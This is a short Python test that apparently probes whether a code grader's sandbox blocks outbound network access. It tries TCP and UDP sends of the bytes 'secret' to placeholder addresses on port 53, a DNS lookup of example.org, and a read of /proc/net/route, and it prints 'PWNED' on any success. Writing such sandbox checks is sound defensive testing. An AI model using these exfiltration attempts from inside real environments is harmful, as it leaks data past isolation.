"""Send what it has found to the world: TCP, UDP and DNS.

A safe grader gives a submission a network without a way out.

Expected: passed, 10 points
"""

import socket

for family, address in ((socket.AF_INET, "192.0.2.1"), (socket.AF_INET6, "2001:db8::1")):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(family, kind) as client:
                client.settimeout(0.2)
                client.connect((address, 53))
                client.send(b"secret")
            print("PWNED", address)
        except OSError:
            pass
try:
    print("PWNED", socket.getaddrinfo("example.org", 80))
except OSError:
    pass
try:
    with open("/proc/net/route") as file:
        if len(file.read().splitlines()) > 1:
            print("PWNED route")
except OSError:
    pass
